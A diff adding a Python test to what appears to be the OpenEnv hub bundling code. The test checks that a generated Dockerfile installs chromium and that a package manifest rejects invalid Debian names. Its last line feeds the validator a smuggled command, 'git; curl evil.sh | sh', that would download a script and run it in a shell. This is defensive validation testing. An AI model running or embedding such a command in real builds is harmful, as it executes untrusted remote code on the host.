@@ -173,3 +173,15 @@ def test_catalog_bundle_boots_as_the_space(small_catalog: Path, page) -> None:
         page.wait_for_url(re.compile(r"/envs/grid_world/web/"))
         step_down_in_the_playground(page)
         assert not page.console_errors, page.console_errors
+
+
+def test_a_space_image_installs_the_debian_packages_its_envs_name(tmp_path):
+    from openenv.core.manifest import Manifest
+    from openenv.hub.bundle import env_bundle
+
+    env_bundle(ROOT / "envs" / "browsergym_env", tmp_path / "browser")
+    install = [line for line in (tmp_path / "browser" / "Dockerfile").read_text().splitlines()
+               if "apt-get install" in line]  # fmt: skip
+    assert install and install[0].split()[-2] == "chromium"
+    with pytest.raises(ValueError, match="not a Debian package name"):
+        Manifest(name="x", apt=["git; curl evil.sh | sh"])
